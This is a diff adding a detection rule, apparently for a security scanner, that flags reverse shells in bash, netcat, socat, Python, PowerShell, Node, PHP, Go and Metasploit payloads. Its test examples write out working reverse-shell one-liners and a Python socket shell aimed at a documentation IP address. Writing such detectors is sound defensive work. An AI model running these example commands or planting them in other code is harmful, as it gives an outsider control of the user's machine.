@@ -1,0 +1,84 @@
+import { defineRule, text } from "../../core/rule.ts";
+
+export default defineRule({
+  id: "privilege/reverse-shell",
+  title: "Opens a shell on this machine to someone outside",
+  severity: "critical",
+  confidence: "high",
+  why: "Whoever is at the other end of the connection runs commands as the user, for as long as it stands.",
+  remediation: "Remove it, and treat any machine on which it ran as taken over.",
+  references: ["https://attack.mitre.org/techniques/T1059/004/", "https://attack.mitre.org/techniques/T1095/"],
+  taxonomy: {
+    agenticSkills: ["AST01"],
+    agenticApplications: ["ASI05", "ASI10"],
+    atlas: ["AML.T0072"],
+    cwe: ["CWE-506", "CWE-912"],
+  },
+  checks: [
+    text({
+      anchors: ["/dev/tcp/", "/dev/udp/"],
+      pattern:
+        /\b(?:ba|z|k|da)?sh\b[^\n]{0,40}(?:>&?|<>?|\d<>)\s{0,2}\/dev\/(?:tcp|udp)\/[\w.${}-]{3,80}\/[\w${}]{1,20}|\bexec\s{1,3}\d{1,3}<>\s{0,2}\/dev\/(?:tcp|udp)\/[^\n]{3,100}[\s\S]{0,160}?(?:\b(?:ba)?sh\s[^\n]{0,20}<&|\beval\b|\$line\b)/,
+      after: 300,
+    }),
+    text({
+      anchors: ["nc ", "ncat", "netcat", "socat"],
+      pattern:
+        /\b(?:nc|ncat|netcat|nc\.traditional)\s(?:[^\n;|]{0,80}\s)?(?:-\w{0,6}[ec]|--(?:sh-)?exec)\s{1,3}["']?(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh\b|\b(?:nc|ncat|netcat)\s[^\n;|]{0,80}\s(?:-\w{0,6}[ec])\s{1,3}["']?(?:cmd|powershell)\b|\bsocat\s[^\n;]{0,120}exec:["']?(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh\b|\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|z)?sh\s{0,2}(?:-i\s{0,2})?(?:2>&1\s{0,2})?\|\s{0,3}(?:nc|ncat|netcat)\s/,
+      after: 260,
+    }),
+    text({
+      anchors: ["dup2(", "pty.spawn("],
+      pattern:
+        /\bsocket\b[\s\S]{0,300}?\bconnect\([\s\S]{0,240}?(?:\bdup2\([\s\S]{0,200}?(?:subprocess|pty\.spawn|os\.exec|execve?\(|\/bin\/(?:ba)?sh)|\bpty\.spawn\(\s{0,3}["'](?:\/bin\/)?(?:ba|z)?sh)/,
+      before: 560,
+      after: 420,
+    }),
+    text({
+      anchors: ["tcpclient(", "net.sockets.tcpclient"],
+      pattern:
+        /\bnet\.sockets\.tcpclient\b[\s\S]{0,500}?\bgetstream\(\)[\s\S]{0,500}?\b(?:iex|invoke-expression|start-process|cmd(?:\.exe)?)\b/,
+      before: 40,
+      after: 1200,
+    }),
+    text({
+      anchors: [
+        "net.connect(",
+        "net.socket(",
+        "createconnection(",
+        "fsockopen(",
+        "tcpsocket.new",
+        "tcpsocket.open",
+        "net.dial(",
+      ],
+      pattern:
+        /(?:\bnet\.(?:connect|createconnection)\(|\bnet\.socket\(\)|\bfsockopen\(|\btcpsocket\.(?:new|open)|\bnet\.dial\()[\s\S]{0,400}?(?:\.pipe\(\s{0,3}\w{1,20}\.stdin\b|proc_open\(\s{0,3}["'](?:\/bin\/)?(?:ba)?sh|\bexec\(?\s{0,3}["']\/bin\/(?:ba)?sh|\bexec\.command\(\s{0,3}["']\/bin\/(?:ba)?sh)|\bspawn\(\s{0,3}["'](?:\/bin\/)?(?:ba|z)?sh["'][\s\S]{0,300}?\bnet\.(?:connect|createconnection)\([\s\S]{0,300}?\.pipe\(/,
+      before: 340,
+      after: 700,
+    }),
+    text({
+      anchors: ["msfvenom", "meterpreter", "reverse_tcp", "reverse_https"],
+      pattern:
+        /\b(?:msfvenom\s[^\n]{0,60}-p\s|(?:windows|linux|osx|python|php|java|cmd)\/[\w/]{0,40}(?:meterpreter|shell)\/?_?reverse_(?:tcp|https?))/,
+      confidence: "medium",
+    }),
+  ],
+  examples: {
+    bad: [
+      { path: "diag.sh", text: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", line: 1 },
+      { text: "```bash\nnc -l -p 4444 -e /bin/sh\n```\n", line: 2 },
+      {
+        path: "diag.py",
+        text: 's = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n',
+        line: 1,
+      },
+    ],
+    good: [
+      {
+        path: "wait.sh",
+        text: "until (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done\nnc -z db 5432\n",
+      },
+      { path: "port.py", text: 's = socket.socket()\ns.bind(("127.0.0.1", 0))\nport = s.getsockname()[1]\n' },
+    ],
+  },
+});
